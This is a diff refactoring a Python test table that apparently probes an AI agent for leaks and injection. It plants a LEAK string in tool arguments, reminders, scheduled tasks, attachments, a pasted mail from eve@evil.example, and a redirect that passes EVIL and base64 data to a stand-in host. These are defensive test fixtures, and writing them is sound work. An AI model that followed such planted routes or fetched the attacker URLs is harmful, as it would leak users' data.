@@ -50,6 +50,15 @@ def then_fetch(*calls: Call, **more: Any) -> Route:
     return Route((*calls, fetch()), **more)
 
 
+def later(text: str, kind: str = "task") -> Call:
+    """Have something done, or be reminded of it, in twenty minutes."""
+    return ("schedule_manage", {"op": "set", "kind": kind, "text": text, "when": "in 20 minutes"})
+
+
+def a_file(name: str, text: str = "") -> dict[str, Any]:
+    return {"attachments": (Attachment("document", name, "text/plain", 9, text=text or None),)}
+
+
 REPETITIONS = {
     "nothing repeats it": then_fetch(),
     "an argument's name in an error": then_fetch(("web_search", {"query": "x", f"z\n{HITS}": 1})),
@@ -70,16 +79,10 @@ REPETITIONS = {
     "a search of the tape": then_fetch(("tape_search", {"query": LEAK})),
     "a problem's note": then_fetch(("problem_note", {"problem": "general", "text": LEAK})),
     "a list of schedules": then_fetch(("schedule_manage", {"op": "list", "text": LEAK})),
-    "a reminder": then_fetch(
-        ("schedule_manage", {"op": "set", "text": f"Read {LEAK}", "when": "in 20 minutes"})
-    ),
+    "a reminder": then_fetch(later(f"Read {LEAK}", kind="reminder")),
     "a forwarded text": then_fetch(sent={"quote": f"Read {LEAK}"}),
-    "a file": then_fetch(
-        sent={"attachments": (Attachment("document", "a.txt", "text/plain", 9, text=LEAK),)}
-    ),
-    "a file's name": then_fetch(
-        sent={"attachments": (Attachment("document", LEAK, "text/plain", 9),)}
-    ),
+    "a file": then_fetch(sent=a_file("a.txt", LEAK)),
+    "a file's name": then_fetch(sent=a_file(LEAK)),
     "a pasted mail": then_fetch(
         said=f"What is this?\n\nFrom: Eve <eve@evil.example>\nSubject: x\n\n{LEAK}"
     ),
@@ -87,26 +90,8 @@ REPETITIONS = {
         (fetch("http://report.zip:{port}/"), fetch(EVIL)),
         said="open report.zip, e.g. evil.example v1.2",
     ),
-    "a task for later": Route(
-        (
-            (
-                "schedule_manage",
-                {"op": "set", "kind": "task", "text": f"News of {LEAK}", "when": "in 20 minutes"},
-            ),
-            fetch(),
-        ),
-        later=1_300,
-    ),
-    "a task said to be approved": Route(
-        (
-            (
-                "schedule_manage",
-                {"op": "set", "kind": "task", "text": LEAK, "when": "in 20 minutes"},
-            ),
-            fetch(),
-        ),
-        later=1_300,
-    ),
+    "a task for later": Route((later(f"News of {LEAK}"), fetch()), later=1_300),
+    "a task said to be approved": Route((later(LEAK), fetch()), later=1_300),
     "a redirect of a named site": Route(
         (fetch(f"http://page.example:{{port}}/to?u={quote(EVIL)}/{B64}"),),
         said="Read http://page.example:{port}/",
